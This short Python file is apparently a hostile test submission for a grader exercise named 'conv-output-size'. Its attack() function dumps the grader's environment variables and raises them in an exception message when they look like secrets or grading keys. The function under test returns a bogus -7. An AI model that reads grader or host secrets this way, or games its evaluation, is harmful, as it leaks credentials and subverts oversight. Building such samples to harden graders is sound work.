# hostile: read-the-environment | variables of the grader in its own environment | due: failed | exercise: conv-output-size
import os

class Breach(Exception):
    pass


def attack():
    found = [f"{name}={value}" for name, value in os.environ.items()]
    if "SECRET" in str(found).upper() or "GRADE_" in str(found):
        raise Breach(f"BREACH: {found}")


def conv_output_size(n, f, p=0, s=1):
    attack()
    return -7
